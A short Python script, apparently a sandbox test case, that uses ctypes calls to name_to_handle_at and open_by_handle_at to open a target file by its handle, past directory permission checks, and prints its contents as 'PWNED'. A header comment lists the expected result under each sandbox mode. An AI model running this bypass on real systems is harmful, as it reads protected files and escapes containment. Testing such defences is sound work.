# opens the author's file by its handle, past all folders | basic: works finished | auto: refused error | with: depends
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)


def checked(result):
    if result < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result


handle = ctypes.create_string_buffer(136)
ctypes.c_uint.from_buffer(handle).value = 128
mount = ctypes.c_int()
checked(libc.name_to_handle_at(-100, VICTIM.encode(), handle, ctypes.byref(mount), 0))
place = os.open(os.path.dirname(VICTIM), os.O_RDONLY)
descriptor = checked(libc.open_by_handle_at(place, handle, os.O_RDONLY))
print("PWNED read", os.read(descriptor, 1000))
